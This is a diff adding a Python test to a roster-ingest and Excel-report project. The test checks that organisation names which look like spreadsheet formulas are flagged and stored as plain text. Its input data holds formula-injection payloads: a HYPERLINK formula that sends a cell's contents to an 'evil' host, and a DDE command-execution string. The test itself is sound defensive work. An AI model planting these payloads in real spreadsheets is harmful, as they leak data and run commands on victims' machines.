@@ -143,3 +143,31 @@ def test_the_api_gives_every_role_the_same_report_without_personal_information(s
     assert all(a.status_code == 200 for a in answers) and len({a.text for a in answers}) == 1
     assert not [s for s in secrets if s in answers[0].text]
     assert workbook.status_code == 200 and openpyxl.load_workbook(io.BytesIO(workbook.content)).sheetnames
+
+
+def test_names_that_look_like_formulas_stay_text_in_every_workbook_we_write(store, tmp_path):
+    import zipfile
+
+    from graph.ontology import load
+    from ingest.blank_workbook import blank_workbook
+    from tests.conftest import write_csv
+
+    assert ingest(store, [SAMPLE_DIR]).ok
+    hostile = ['=HYPERLINK("http://evil/leak/"&A1,"点此")', "@SUM(1+1)*cmd|' /C calc'!A0", "+SUM(A1)", "-2+3"]
+    rows = "".join(
+        f"B9{i},{name.replace(chr(34), chr(34) * 2).join(chr(34) * 2)},孵化型,区级\n" for i, name in enumerate(hostile)
+    )
+    roster = write_csv(tmp_path, "基地.csv", "编号,名称,类别,级别\n" + rows)
+    report_ = ingest(store, [roster])
+    assert report_.written and report_.errors == []
+    assert {w.row for w in report_.warnings if "公式" in w.message} == {2, 3, 4}  # "-2+3" is a number's look
+    answer = report(store, as_of=AS_OF, year=YEAR)
+    shown = {cell for table in answer["tables"] for row in table["rows"] for cell in row}
+    assert set(hostile) <= shown, "the hostile names are in the ledger"
+    for workbook in (ledger(answer), blank_workbook(load())):
+        with zipfile.ZipFile(io.BytesIO(workbook)) as archive:
+            sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")]
+        assert not any(b"<f>" in xml or b"<f " in xml for xml in sheets)
+    book = openpyxl.load_workbook(io.BytesIO(ledger(answer)))
+    cells = {c.value for sheet in book.worksheets for row in sheet.iter_rows() for c in row}
+    assert hostile[0] in cells  # the leading = kept visible
